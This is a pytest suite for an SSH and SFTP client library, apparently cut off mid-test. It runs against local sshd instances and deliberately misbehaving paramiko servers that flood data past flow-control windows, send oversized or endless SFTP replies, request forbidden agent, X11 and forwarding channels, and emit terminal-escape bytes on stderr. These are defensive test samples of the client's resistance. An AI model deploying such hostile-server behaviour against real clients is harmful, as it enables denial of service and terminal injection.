"""SSH connections to real sshd processes on this machine, and to servers that misbehave on purpose."""

from __future__ import annotations

import contextlib
import getpass
import hashlib
import logging
import os
import random
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import fsspec
import paramiko
import psutil
import pytest
from fsspec.implementations.sftp import SFTPFileSystem
from paramiko import sftp

from detrain_nb import doctor
from detrain_nb.errors import HostKeyError, SpecError, TransportError
from detrain_nb.spec.node import Node
from detrain_nb.transport import ssh, ssh_identities, ssh_opening
from detrain_nb.transport.known_hosts import fingerprint
from detrain_nb.transport.ssh import SshConnection, SshTarget
from detrain_nb.transport.ssh_key_file import KeyFile
from detrain_nb.transport.ssh_stream import Stream

LIMIT_S = 15.0
needs_sshd = pytest.mark.needs_debian("openssh-server")


# Fixtures and helpers


@contextlib.contextmanager
def leaves_nothing() -> Iterator[None]:
    """Check that the block leaves no socket and no thread behind, at either end of a connection."""
    threads, sockets = set(threading.enumerate()), _list_sockets()
    yield
    deadline = time.monotonic() + 60
    while (left := _list_left(threads, sockets)) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not left


@contextlib.contextmanager
def fails(match: str | None = None) -> Iterator[pytest.ExceptionInfo[TransportError]]:
    """Check that the block raises TransportError and leaves nothing open, before a fixture ends the server."""
    with leaves_nothing(), pytest.raises(TransportError, match=match) as caught:
        yield caught


@pytest.fixture(autouse=True)
def nothing_is_left() -> Iterator[None]:
    with leaves_nothing():
        yield


def _list_left(threads: set[threading.Thread], sockets: set[str]) -> list[object]:
    return [*(set(threading.enumerate()) - threads), *(_list_sockets() - sockets)]


def _list_sockets() -> set[str]:
    found = set()
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            found.add(os.readlink(f"/proc/self/fd/{name}"))
    return {link for link in found if link.startswith("socket:")}


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Set a home of the test, without an ssh-agent and without unlocked keys; return its .ssh."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
    monkeypatch.setattr(ssh_identities, "_UNLOCKED", ssh_identities._UnlockedKeys())
    folder = tmp_path / "home" / ".ssh"
    folder.mkdir(parents=True, mode=0o700)
    return folder


def make_key(path: Path, *, passphrase: str = "", kind: str = "ed25519") -> Path:
    subprocess.run(["ssh-keygen", "-qt", kind, "-N", passphrase, "-a", "4", "-C", path.name, "-f", path], check=True)
    return path


def public_half(path: Path) -> str:
    return " ".join(path.with_name(f"{path.name}.pub").read_text().split()[:2])


@pytest.fixture
def key(home: Path) -> Path:
    """Return the key that every sshd here accepts."""
    return make_key(home / "key")


@dataclass
class Server:
    """A listening server, with its name in the SSH configuration."""

    name: str
    port: int
    host_key: Path
    home: Path

    def configure(self, *lines: str) -> None:
        with (self.home / "config").open("a") as file:
            file.write(f"Host {self.name}\n  HostName 127.0.0.1\n  Port {self.port}\n  User {getpass.getuser()}\n")
            file.write("".join(f"  {line}\n" for line in lines))

    def make_known(self, *, marker: str = "", public: str = "", host: str = "") -> None:
        with (self.home / "known_hosts").open("a") as file:
            name = host or f"[127.0.0.1]:{self.port}"
            file.write(f"{marker}{name} {public or public_half(self.host_key)}\n")


@dataclass
class Sshd(Server):
    process: subprocess.Popen[bytes]
    log: Path

    def count(self, text: str) -> int:
        return self.log.read_text(errors="replace").count(text)


StartSshd = Callable[..., Sshd]


@pytest.fixture
def start_sshd(tmp_path: Path, home: Path, key: Path, needs_debian: Callable[..., None]) -> Iterator[StartSshd]:
    """Yield a function that starts an sshd with extra options; ``name`` is its host in the SSH configuration."""
    needs_debian("openssh-server")
    if os.geteuid() == 0:
        Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)  # Debian's sshd requires it if run by root
    started: list[Sshd] = []

    def start(*options: str, name: str = "node", host_key: Path | None = None) -> Sshd:
        folder = tmp_path / name
        folder.mkdir()
        shutil.copy(key.with_name("key.pub"), folder / "authorized_keys")
        with contextlib.ExitStack() as on_failure:
            sshd = _start_sshd(folder, options, host_key or make_key(folder / "host_key"), home)
            on_failure.callback(_end, sshd.process)
            sshd.configure(f"IdentityFile {key}")
            sshd.make_known()
            started.append(sshd)
            on_failure.pop_all()
        return sshd

    yield start
    for sshd in started:
        _end(sshd.process)


def _start_sshd(folder: Path, options: tuple[str, ...], host_key: Path, home: Path) -> Sshd:
    """Start an sshd on random ports until one is free; the range is below the system's ephemeral ports."""
    program = shutil.which("sshd") or "/usr/sbin/sshd"
    fixed = ["StrictModes no", "UsePAM no", "PidFile none", "LogLevel DEBUG1", f"HostKey {host_key}"]
    fixed += ["ListenAddress 127.0.0.1", f"AuthorizedKeysFile {folder}/authorized_keys", "UseDNS no"]
    fixed += ["SetEnv SHLVL=2"]  # bash then skips ~/.bashrc: the tester's may wait, or print
    if not any(option.startswith("Subsystem") for option in options):
        fixed.append("Subsystem sftp internal-sftp")
    options = tuple(option for option in options if option != "Subsystem none")
    for _ in range(20):
        port = random.randrange(20000, 32000)
        (folder / "sshd_config").write_text("\n".join([f"Port {port}", *options, *fixed, ""]))
        log = folder / "log"
        process = subprocess.Popen([program, "-D", "-f", folder / "sshd_config", "-E", log])
        deadline = time.monotonic() + LIMIT_S
        while process.poll() is None and time.monotonic() < deadline:
            if log.exists() and "Server listening on" in log.read_text():
                return Sshd(folder.name, port, host_key, home, process, log)
            time.sleep(0.01)
        _end(process)
        if "Cannot bind" not in log.read_text():
            raise AssertionError(log.read_text())
    raise AssertionError("no free port")


def _end(process: subprocess.Popen[bytes]) -> None:
    """End an sshd and the sessions it has started, by their pids."""
    children = []
    with contextlib.suppress(psutil.NoSuchProcess):
        children = psutil.Process(process.pid).children(recursive=True)
    process.kill()
    process.wait(LIMIT_S)
    for child in children:
        with contextlib.suppress(psutil.NoSuchProcess):
            child.kill()


@dataclass
class Recorder(Server):
    """A paramiko server that records the offered keys and, unless ``takes`` is set, rejects every login."""

    offered: list[str] = field(default_factory=list)
    takes: bool = False
    methods: str = "publickey"  # the methods that it offers
    wants_more: bool = False
    answers: threading.Event = field(default_factory=threading.Event)
    transports: list[paramiko.Transport] = field(default_factory=list)


@pytest.fixture
def recorder(tmp_path: Path, home: Path) -> Iterator[Recorder]:
    listener = socket.create_server(("127.0.0.1", 0))
    server = Recorder("node", listener.getsockname()[1], make_key(tmp_path / "host_key"), home)
    server.configure()
    host_key = paramiko.Ed25519Key.from_private_key_file(str(server.host_key))

    class Policy(paramiko.ServerInterface):
        def get_allowed_auths(self, username: str) -> str:
            return server.methods

        def check_auth_none(self, username: str) -> int:
            server.offered.append("none")
            return paramiko.AUTH_FAILED

        def check_auth_password(self, username: str, password: str) -> int:
            server.offered.append("password")
            return paramiko.AUTH_FAILED

        def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
            server.offered.append(fingerprint(key.asbytes()))
            if server.wants_more:
                return paramiko.AUTH_PARTIALLY_SUCCESSFUL
            return paramiko.AUTH_SUCCESSFUL if server.takes else paramiko.AUTH_FAILED

        def check_channel_request(self, kind: str, chanid: int) -> int:
            return paramiko.OPEN_SUCCEEDED

        def check_channel_direct_tcpip_request(self, chanid: int, origin: object, destination: object) -> int:
            return paramiko.OPEN_SUCCEEDED

        def check_channel_exec_request(self, channel: paramiko.Channel, command: bytes) -> bool:
            return server.answers.wait(LIMIT_S)

        def check_channel_subsystem_request(self, channel: paramiko.Channel, name: str) -> bool:
            return server.answers.wait(LIMIT_S)

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                transport = paramiko.Transport(listener.accept()[0])
                server.transports.append(transport)
                transport.set_log_channel("detrain_nb.ssh")
                transport.add_server_key(host_key)
                transport.start_server(event=threading.Event(), server=Policy())

    thread = threading.Thread(target=serve)
    thread.start()
    yield server
    server.answers.set()
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    thread.join()
    ssh_opening.shut(server.transports)


def connect(name: str = "node", **overrides: object) -> SshConnection:
    return SshConnection.open(SshTarget(name), limit_s=LIMIT_S, **overrides)  # type: ignore[arg-type]


def run(connection: SshConnection, command: str, given: bytes = b"") -> bytes:
    stream = connection.open_stream(command)
    with contextlib.closing(stream):
        if given:  # after the command's exit, even sending nothing fails
            stream.sock.sendall(given)
        stream.sock.shutdown(socket.SHUT_WR)
        return read_all(stream.sock)


def read_all(sock: socket.socket) -> bytes:
    sock.settimeout(LIMIT_S)
    return b"".join(iter(lambda: sock.recv(1 << 20), b""))


def offered_name(path: Path) -> str:
    return subprocess.run(["ssh-keygen", "-lf", path], capture_output=True, text=True, check=True).stdout.split()[1]


# Commands


def test_command_reads_and_prints_and_ends_with_its_status(start_sshd: StartSshd) -> None:
    start_sshd()
    with connect() as connection:
        stream = connection.open_stream("read line; echo got $line; echo wrong >&2; test -t 0 && echo pty; exit 7")
        with contextlib.closing(stream):
            assert stream.exit_status() is None
            stream.sock.sendall(b"this\n")
            assert read_all(stream.sock) == b"got this\n"
            assert stream.exit_status(limit_s=LIMIT_S) == 7
            assert stream.stderr_tail() == "wrong\n"


def test_host_that_sends_more_than_it_may_is_left(recorder: Recorder, key: Path) -> None:
    """The reader is slow, and the bytes buffered for it here are limited."""
    recorder.make_known()
    recorder.takes = True
    recorder.answers.set()
    connection = SshConnection.open(SshTarget("node", identity_file=str(key)))
    with connection, contextlib.closing(connection.open_stream("flood")) as stream:
        [channel] = recorder.transports[-1]._channels.values()
        channel.out_window_size = 1 << 40  # it ignores the window size
        sent_bytes = 0
        with contextlib.suppress(OSError, EOFError):  # the client closes the connection
            while sent_bytes < 1 << 28:
                sent_bytes += channel.send(bytes(1 << 15))
        assert sent_bytes < 1 << 28
        assert read_all(stream.sock).count(b"\0") < 5 * ssh_opening.WINDOW_BYTES
        assert not connection.is_alive


def test_bastion_that_sends_more_than_it_may_is_left(recorder: Recorder, key: Path) -> None:
    recorder.make_known()
    recorder.takes = True
    with SshConnection.open(SshTarget("node", identity_file=str(key))) as connection:
        via = connection._hops[0]
        with contextlib.closing(ssh_opening._dial_through(via, via.settings, deadline=time.monotonic() + LIMIT_S)):
            [channel] = recorder.transports[-1]._channels.values()
            channel.out_window_size = 1 << 40
            sent_bytes = 0
            with contextlib.suppress(OSError, EOFError):  # the client closes the connection
                while sent_bytes < 1 << 27:
                    sent_bytes += channel.send(bytes(1 << 15))
            wait_until(lambda: not connection.is_alive)


def test_every_byte_arrives_both_ways_at_once(start_sshd: StartSshd) -> None:
    start_sshd()
    given = random.Random(0).randbytes(40 << 20)
    with connect() as connection, contextlib.closing(connection.open_stream("cat")) as stream:
        with ThreadPoolExecutor() as pool:
            got = pool.submit(read_all, stream.sock)
            stream.sock.sendall(given)
            stream.sock.shutdown(socket.SHUT_WR)
            assert hashlib.sha256(got.result()).digest() == hashlib.sha256(given).digest()
        assert stream.exit_status(limit_s=LIMIT_S) == 0


def test_end_of_input_arrives_and_output_goes_on(start_sshd: StartSshd) -> None:
    start_sshd()
    with connect() as connection:
        assert run(connection, "wc -c; sleep 1.5; echo late", b"x" * 100_000) == b"100000\nlate\n"


def test_end_of_output_arrives_while_the_command_reads_on(start_sshd: StartSshd, tmp_path: Path) -> None:
    start_sshd()
    with (
        connect() as connection,
        contextlib.closing(connection.open_stream(f"exec >&- 2>&-; cat >{tmp_path}/got")) as s,
    ):
        s.sock.settimeout(LIMIT_S)
        s.sock.sendall(b"one\n")
        s.sock.sendall(b"two\n")
        s.sock.shutdown(socket.SHUT_WR)
        assert s.sock.recv(1) == b""
        assert s.exit_status(limit_s=LIMIT_S) == 0
    assert (tmp_path / "got").read_bytes() == b"one\ntwo\n"


def test_standard_error_is_bounded_and_clean_and_blocks_nothing(start_sshd: StartSshd) -> None:
    start_sshd()
    with connect() as connection:
        command = r"head -c 40000000 /dev/zero | tr '\0' x >&2; printf 'last \033[2J\342\200\256 line' >&2; echo done"
        with contextlib.closing(connection.open_stream(command)) as stream:
            assert read_all(stream.sock) == b"done\n"
            assert stream.exit_status(limit_s=LIMIT_S) == 0
            tail = stream.stderr_tail()
    assert tail.endswith("xlast [2J line")
    assert 3900 < len(tail) <= 4000


def threads_of_streams() -> list[str]:
    return [thread.name for thread in threading.enumerate() if thread.name.startswith("detrain_nb ssh")]


def wait_until(holds: Callable[[], bool], limit_s: float = LIMIT_S) -> None:
    deadline = time.monotonic() + limit_s
    while not holds():
        assert time.monotonic() < deadline, "it did not come about"
        time.sleep(0.02)


@pytest.mark.parametrize(
    "command",
    [
        "sleep 100",
        "yes",
        pytest.param("cat", marks=pytest.mark.slow),
        pytest.param("exec <&-; sleep 100", marks=pytest.mark.slow),
    ],
)
def test_closed_socket_closes_the_channel(command: str, start_sshd: StartSshd) -> None:
    start_sshd()
    with connect() as connection:
        stream = connection.open_stream(command)
        stream.sock.close()
        wait_until(lambda: not threads_of_streams())
        assert stream._channel.closed
        assert run(connection, "echo alive") == b"alive\n"


def test_closed_socket_closes_the_channel_though_the_command_reads_nothing(start_sshd: StartSshd) -> None:
    start_sshd()
    with connect() as connection:
        stream = connection.open_stream("sleep 100")
        stream.sock.settimeout(1)
        with contextlib.suppress(TimeoutError):
            while True:
                stream.sock.send(bytes(1 << 20))
        stream.sock.close()
        wait_until(lambda: not threads_of_streams())


def test_ended_command_ends_what_is_written_to_it(start_sshd: StartSshd) -> None:
    start_sshd()
    with connect() as connection, contextlib.closing(connection.open_stream("echo bye")) as stream:
        assert read_all(stream.sock) == b"bye\n"
        wait_until(lambda: not threads_of_streams())
        with pytest.raises(OSError):
            stream.sock.sendall(b"x")


def test_killed_session_ends_the_socket(start_sshd: StartSshd) -> None:
    sshd = start_sshd()
    with connect() as connection:
        streams = [connection.open_stream(command) for command in ("cat", "sleep 100")]
        assert connection.is_alive
        for child in psutil.Process(sshd.process.pid).children():
            child.kill()
        for stream in streams:
            assert read_all(stream.sock) == b""
            assert stream.exit_status(limit_s=1) is None
            stream.close()
        wait_until(lambda: not connection.is_alive)
        with pytest.raises(TransportError, match="the connection broke"):
            connection.open_stream("true")


def test_closed_connection_ends_its_streams(start_sshd: StartSshd) -> None:
    start_sshd()
    connection = connect()
    stream = connection.open_stream("cat")
    connection.close()
    connection.close()
    assert read_all(stream.sock) == b""
    stream.close()
    assert not connection.is_alive
    with pytest.raises(TransportError):
        connection.open_stream("true")


def test_channels_beyond_maxsessions_are_refused_and_the_others_live(start_sshd: StartSshd) -> None:
    start_sshd("MaxSessions 1")
    with connect() as connection, contextlib.closing(connection.open_stream("cat")) as stream:
        for open_more in (lambda: connection.open_stream("true"), connection.open_sftp_filesystem):
            with pytest.raises(TransportError, match=r"sshd refuses a further channel for .*: raise MaxSessions"):
                open_more()
        stream.sock.sendall(b"alive")
        assert stream.sock.recv(100) == b"alive"


# Files


def test_files_go_over_the_same_connection(start_sshd: StartSshd, tmp_path: Path) -> None:
    sshd = start_sshd()
    (tmp_path / "up").write_bytes(os.urandom(3 << 20))
    with connect() as connection:
        files = connection.open_sftp_filesystem()
        files.mkdir(f"{tmp_path}/there")
        files.put_file(f"{tmp_path}/up", f"{tmp_path}/there/file")
        assert files.ls(f"{tmp_path}/there", detail=False) == [f"{tmp_path}/there/file"]
        files.get_file(f"{tmp_path}/there/file", f"{tmp_path}/down")
        assert (tmp_path / "down").read_bytes() == (tmp_path / "up").read_bytes()
        assert not files.exists(f"{tmp_path}/nowhere")
        assert sshd.count("Accepted publickey") == 1
        assert not type(files)._cache, "fsspec keeps none of them"
        files.close()
        with pytest.raises(OSError):
            files.ls(f"{tmp_path}/there")
    assert fsspec.get_filesystem_class("sftp") is SFTPFileSystem


@pytest.mark.parametrize("option", ["Subsystem none", "Subsystem sftp /bin/false", "ForceCommand echo hello, sftp"])
def test_host_without_sftp_says_so_and_the_connection_lives(option: str, start_sshd: StartSshd) -> None:
    start_sshd(option)
    with connect() as connection:
        with pytest.raises(TransportError, match="does not offer SFTP"):
            connection.open_sftp_filesystem()
        assert connection.is_alive
        assert run(connection, "echo hello, sftp") == b"hello, sftp\n"


def test_sftp_that_falls_silent_ends_a_call(start_sshd: StartSshd, tmp_path: Path) -> None:
    script = tmp_path / "sftp"
    script.write_text("#!/bin/sh\nprintf '\\0\\0\\0\\5\\2\\0\\0\\0\\3'\nexec sleep 100\n")
    script.chmod(0o755)
    start_sshd(f"Subsystem sftp {script}")
    with (
        connect() as connection,
        contextlib.closing(connection.open_sftp_filesystem(silence_limit_s=1.0)) as files,
        pytest.raises(OSError),
    ):
        files.ls("/")


Answer = Callable[[int, bytes, int], Iterator[bytes]]  # to a request: its kind, its number, its number of bytes


@pytest.fixture
def serve_sftp(recorder: Recorder, key: Path) -> Iterator[Callable[[Answer], SshConnection]]:
    """Yield a function that connects to a host whose SFTP server replies with a given ``answer``."""
    recorder.make_known()
    recorder.takes = True
    recorder.answers.set()
    with contextlib.ExitStack() as stack:

        def serve(answer: Answer) -> None:
            wait_until(lambda: bool(recorder.transports[-1]._channels.values()))
            [channel] = recorder.transports[-1]._channels.values()
            channel.settimeout(LIMIT_S)
            with contextlib.suppress(OSError, EOFError):  # the client disconnects
                while size := int.from_bytes(channel.recv(4), "big"):
                    request = channel.recv(size)
                    is_first = request[0] == sftp.CMD_INIT
                    replies = (
                        [_reply(sftp.CMD_VERSION, 3)] if is_first else answer(request[0], request[1:5], _last(request))
                    )
                    for reply in replies:
                        channel.sendall(len(reply).to_bytes(4, "big") + reply)

        def begin(answer: Answer) -> SshConnection:
            connection = SshConnection.open(SshTarget("node", identity_file=str(key)))
            thread = threading.Thread(target=serve, args=[answer])
            thread.start()
            stack.callback(thread.join)
            return stack.enter_context(connection)

        yield begin


def _last(request: bytes) -> int:
    return int.from_bytes(request[-4:], "big")


def _reply(kind: int, *fields: int | bytes) -> bytes:
    return bytes([kind]) + b"".join(part.to_bytes(4, "big") if isinstance(part, int) else part for part in fields)


def _serve_file(size: int, sent: Callable[[int], int]) -> Answer:
    """Answer with a file of ``size`` bytes; ``sent`` maps the bytes requested to the bytes sent."""

    def answer(kind: int, number: bytes, asked: int) -> Iterator[bytes]:
        if kind == sftp.CMD_READ:
            yield _reply(sftp.CMD_DATA, number, sent(asked), bytes(sent(asked)))
        elif kind == sftp.CMD_OPEN:
            yield _reply(sftp.CMD_HANDLE, number, 1, b"h")
        elif kind == sftp.CMD_CLOSE:
            yield _reply(sftp.CMD_STATUS, number, 0, 0, 0)
        else:
            yield _reply(sftp.CMD_ATTRS, number, 1, 0, size)

    return answer


def _serve_folder(kind_of_reply: int, *fields: int | bytes) -> Answer:
    """Answer with a folder; a request to list it gets this reply."""

    def answer(kind: int, number: bytes, asked: int) -> Iterator[bytes]:
        if kind == sftp.CMD_OPENDIR:
            yield _reply(sftp.CMD_HANDLE, number, 1, b"h")
        else:
            yield _reply(kind_of_reply, number, *fields)

    return answer


def _answer_without_end(kind: int, number: bytes, asked: int) -> Iterator[bytes]:
    while True:
        yield _reply(sftp.CMD_STATUS, 1 << 30, 0, 0, 0)


_MANY = (1 << 32) - 1
_LIES: dict[str, tuple[Answer, str]] = {
    "a byte more than asked": (_serve_file(1000, lambda asked: asked + 1), "more than was requested"),
    "all of a file at once": (_serve_file(1 << 20, lambda asked: 200_000), "more than was requested"),
    "more than any reply has": (_serve_file(1 << 20, lambda asked: 1 << 20), "a reply of 1048585 bytes"),
    "replies without end": (_answer_without_end, "a reply to no request"),
    "more names than there are": (_serve_folder(sftp.CMD_NAME, _MANY), "more than was requested"),
    "lists without names, without end": (_serve_folder(sftp.CMD_NAME, 0), "more than 1000 empty lists of names"),
    "more of a name than there is": (_serve_folder(sftp.CMD_NAME, 1, _MANY), "more than was requested"),
    "more attributes than there are": (_serve_folder(sftp.CMD_ATTRS, 1 << 31, _MANY), "more than was requested"),
    "more attributes of a name than there are": (
        _serve_folder(sftp.CMD_NAME, 1, 0, 0, 1 << 31, _MANY),
        "more than was requested",
    ),
}


@pytest.mark.parametrize("lie", _LIES)
def test_sftp_server_that_sends_more_than_it_was_asked_for_is_left(
    lie: str, serve_sftp: Callable[[Answer], SshConnection], tmp_path: Path
) -> None:
    answer, complaint = _LIES[lie]
    connection = serve_sftp(answer)
    files = connection.open_sftp_filesystem()
    with pytest.raises(TransportError, match=f"127.0.0.1:.*: its SFTP server sent {complaint}") as caught:
        if "names" in lie or " name" in lie:
            files.ls("/folder")
        else:
            files.get_file("/file", str(tmp_path / "down"))
    assert not connection.is_alive
    assert str(caught.value).isprintable()


def test_sftp_server_that_sends_what_it_was_asked_for_is_believed(
    serve_sftp: Callable[[Answer], SshConnection], tmp_path: Path
) -> None:
    """One reply may have fewer bytes than were requested."""
    with contextlib.closing(
        serve_sftp(_serve_file(100_000, lambda asked: min(asked, 1000))).open_sftp_filesystem()
    ) as files:
        files.get_file("/file", str(tmp_path / "down"))
    assert (tmp_path / "down").read_bytes() == bytes(100_000)


def test_folder_with_names_without_end_is_an_error(serve_sftp: Callable[[Answer], SshConnection]) -> None:
    name = (1).to_bytes(4, "big") + b"a" + bytes(8)  # file name, empty long name, no attributes
    connection = serve_sftp(_serve_folder(sftp.CMD_NAME, 10, name * 10))
    with pytest.raises(OSError, match="/folder has more than 100 names"):
        connection.open_sftp_filesystem(most_names=100).ls("/folder")


# The connection itself


def test_connection_is_tuned_and_tells_where_it_goes(start_sshd: StartSshd) -> None:
    sshd = start_sshd()
    with connect() as connection:
        transport = connection._transport
        level = socket.IPPROTO_TCP
        assert transport.sock.getsockopt(level, socket.TCP_NODELAY) == 1
        assert transport.sock.getsockopt(level, socket.TCP_USER_TIMEOUT) == 15000
        assert transport.sock.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE) == 0
        assert transport.local_cipher == transport.remote_cipher == "aes128-gcm@openssh.com"
        assert transport.default_window_size == 16 << 20
        assert transport.default_max_packet_size == 256 << 10
        assert connection.peer_address == "127.0.0.1"
        assert connection.local_address == "127.0.0.1"
        assert connection.host_key_fingerprint == offered_name(sshd.host_key)
        assert connection.settings.where == f"{getpass.getuser()}@127.0.0.1:{sshd.port}"


@pytest.mark.parametrize(
    "option",
    [
        "Ciphers aes128-cbc,aes256-cbc,3des-cbc",
        "MACs hmac-md5,hmac-md5-96,hmac-sha1\nCiphers aes128-ctr",
        "KexAlgorithms diffie-hellman-group14-sha1,diffie-hellman-group14-sha256,diffie-hellman-group16-sha512",
        "KexAlgorithms diffie-hellman-group-exchange-sha1,diffie-hellman-group-exchange-sha256",
        "HostKeyAlgorithms ssh-rsa",
    ],
)
def test_host_with_nothing_but_weak_algorithms_is_refused(option: str, start_sshd: StartSshd, tmp_path: Path) -> None:
    start_sshd(*option.split("\n"), host_key=make_key(tmp_path / "rsa", kind="rsa"))
    with fails(match="offers only unsafe algorithms"):
        connect()


def test_host_key_of_a_known_type_is_asked_for(start_sshd: StartSshd, tmp_path: Path, home: Path) -> None:
    other = make_key(tmp_path / "other")
    sshd = start_sshd(f"HostKey {other}", host_key=make_key(tmp_path / "rsa", kind="rsa"))
    with connect() as connection:
        assert connection._transport.host_key_type == "rsa-sha2-512"
    (home / "known_hosts").unlink()
    sshd.make_known(public=public_half(other))
    with connect() as connection:
        assert connection._transport.host_key_type == "ssh-ed25519"


@needs_sshd
def test_what_the_node_asks_for_is_refused(recorder: Recorder, key: Path) -> None:
    recorder.make_known()
    recorder.takes = True
    recorder.answers.set()
    with SshConnection.open(SshTarget("node", identity_file=str(key))) as connection:
        stream = connection.open_stream("anything")
        node = recorder.transports[-1]
        for kind in ("auth-agent@openssh.com", "x11", "forwarded-tcpip", "direct-tcpip", "session"):
            with pytest.raises(paramiko.ChannelException, match="Administratively prohibited"):
                node.open_channel(kind, ("127.0.0.1", 22), ("127.0.0.1", 22))
        for request in ("tcpip-forward", "streamlocal-forward@openssh.com", "anything"):
            assert node.global_request(request, ("127.0.0.1", 0)) is None
        assert connection.is_alive
        stream.close()


@pytest.mark.parametrize(
    "what, says_yes", [("a command", False), pytest.param("SFTP", False, marks=pytest.mark.slow), ("SFTP", True)]
)
def test_node_that_does_not_answer_a_request_ends_within_the_limit(
    what: str, says_yes: bool, recorder: Recorder, key: Path
) -> None:
    recorder.make_known()
    recorder.takes = True
    if says_yes:
        recorder.answers.set()  # but never speaks SFTP
    with SshConnection.open(SshTarget("node", identity_file=str(key))) as connection:
        connection.channel_limit_s = 1.0
        begin = connection.open_sftp_filesystem if what == "SFTP" else lambda: connection.open_stream("true")
        with pytest.raises(TransportError, match=f"does not offer {what}"):
            begin()


# Host keys


def test_unknown_host_key_is_refused_before_authentication(recorder: Recorder, key: Path) -> None:
    with fails() as caught:
        connect()
    message = str(caught.value)
    assert offered_name(recorder.host_key) in message
    assert f"{getpass.getuser()}@127.0.0.1:{recorder.port}: " in message
    assert f"echo '[127.0.0.1]:{recorder.port} {public_half(recorder.host_key)}' >> ~/.ssh/known_hosts" in message
    assert_nothing_was_tried(recorder)


def test_changed_host_key_is_refused_before_authentication(recorder: Recorder, key: Path, tmp_path: Path) -> None:
    recorder.make_known(public=public_half(make_key(tmp_path / "old")))
    with fails(match=r"has changed: .*known_hosts, line 1\).* ssh-keygen -R|has changed") as caught:
        connect()
    assert f"ssh-keygen -R '[127.0.0.1]:{recorder.port}' -f ~/.ssh/known_hosts" in str(caught.value)
    assert_nothing_was_tried(recorder)


def test_host_key_of_another_type_than_the_known_one_is_refused(recorder: Recorder, key: Path, tmp_path: Path) -> None:
    recorder.make_known(public=public_half(make_key(tmp_path / "old", kind="ecdsa")))
    with fails(match="has changed"):
        connect()
    assert_nothing_was_tried(recorder)


def test_revoked_host_key_is_refused_before_authentication(recorder: Recorder, key: Path) -> None:
    recorder.make_known()
    recorder.make_known(marker="@revoked ", host="*")
    with fails(match=r"is revoked .*line 2"):
        connect()
    assert_nothing_was_tried(recorder)


def test_recorder_would_have_seen_an_attempt(recorder: Recorder, key: Path) -> None:
    recorder.make_known()
    with fails(match="none of these keys lets user"):
        SshConnection.open(SshTarget("node", identity_file=str(key)))
    assert recorder.offered == [offered_name(key)]
    assert recorder.transports[-1].auth_handler.auth_username == getpass.getuser()


def assert_nothing_was_tried(recorder: Recorder) -> None:
    (transport,) = recorder.transports
    transport.join(LIMIT_S)
    assert recorder.offered == []
    assert transport.initial_kex_done
    assert transport.auth_handler is None or transport.auth_handler.auth_username is None


def test_host_key_alias_stands_for_host_and_port(recorder: Recorder, key: Path, home: Path) -> None:
    (home / "config").write_text(
        f"Host node\nHostName 127.0.0.1\nPort {recorder.port}\nHostKeyAlias rack-7\nIdentityFile {key}\n"
    )
    with fails(match=r"key of rack-7 is not known.* echo 'rack-7 ssh-ed25519 .* >> ~/.ssh/known_hosts"):
        connect()
    recorder.make_known(host="rack-7")
    with fails(match="none of these keys lets user"):
        connect()


def test_known_hosts_file_with_lines_that_stop_paramiko_is_read(start_sshd: StartSshd, home: Path) -> None:
    sshd = start_sshd()
    known = home / "known_hosts"
    public = public_half(sshd.host_key)
    known.write_text(f"@cert-authority * {public}\n@revoked other {public}\ngarbage\n{known.read_text()}")
    connect().close()


# The client's keys


@pytest.fixture
def agent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, needs_debian: Callable[..., None]) -> Iterator[None]:
    needs_debian("openssh-server")
    process = subprocess.Popen(["ssh-agent", "-D", "-a", tmp_path / "agent"], stdout=subprocess.PIPE)
    assert process.stdout is not None
    process.stdout.readline()  # the agent is listening
    monkeypatch.setenv("SSH_AUTH_SOCK", str(tmp_path / "agent"))
    yield
    process.kill()
    process.wait()
    process.stdout.close()


def add_to_agent(path: Path, passphrase: str = "") -> None:
    if passphrase:  # ssh-add asks only on a terminal
        subprocess.run(["ssh-keygen", "-qpP", passphrase, "-N", "", "-f", path], check=True)
    subprocess.run(["ssh-add", "-q", path], check=True)
    if passphrase:
        subprocess.run(["ssh-keygen", "-qpP", "", "-N", passphrase, "-a", "4", "-f", path], check=True)


def refused(recorder: Recorder, target: SshTarget, ask: ssh.AskPassphrase | None = None) -> tuple[list[str], str]:
    """Connect without success; return the keys that were offered, and the text of the error."""
    recorder.offered.clear()
    with fails() as caught:
        SshConnection.open(target, ask_passphrase=ask, limit_s=LIMIT_S)
    return recorder.offered, str(caught.value)


def test_named_keys_come_first_then_the_agent_and_no_default_ones(recorder: Recorder, home: Path, agent: None) -> None:
    recorder.make_known()
    named, of_agent, default = (make_key(home / name) for name in ("named", "of_agent", "id_ed25519"))
    add_to_agent(of_agent)
    (home / "config").write_text(f"IdentityFile {home}/missing\nIdentityFile {named}\n{(home / 'config').read_text()}")
    offered, message = refused(recorder, SshTarget("node"))
    assert offered == [offered_name(path) for path in (named, of_agent)]
    assert f" in: {named}, ssh-ed25519 {offered_name(of_agent)} (in ssh-agent)" in message
    assert f"the key file {home}/missing does not exist" in message
    assert str(default) not in message


def test_default_keys_come_after_the_agent(recorder: Recorder, home: Path, agent: None) -> None:
    recorder.make_known()
    rsa, ecdsa, ed25519 = (make_key(home / f"id_{kind}", kind=kind) for kind in ("rsa", "ecdsa", "ed25519"))
    of_agent = make_key(home / "of_agent")
    add_to_agent(of_agent)
    offered, _ = refused(recorder, SshTarget("node"))
    assert offered == [offered_name(path) for path in (of_agent, ed25519, ecdsa, rsa)]
    (home / "config").write_text(f"IdentityAgent none\n{(home / 'config').read_text()}")
    offered, _ = refused(recorder, SshTarget("node"))
    assert offered == [offered_name(path) for path in (ed25519, ecdsa, rsa)]


def test_key_that_was_asked_for_is_the_only_one(recorder: Recorder, home: Path, agent: None) -> None:
    recorder.make_known()
    named = make_key(home / "named")
    add_to_agent(make_key(home / "id_ed25519"))
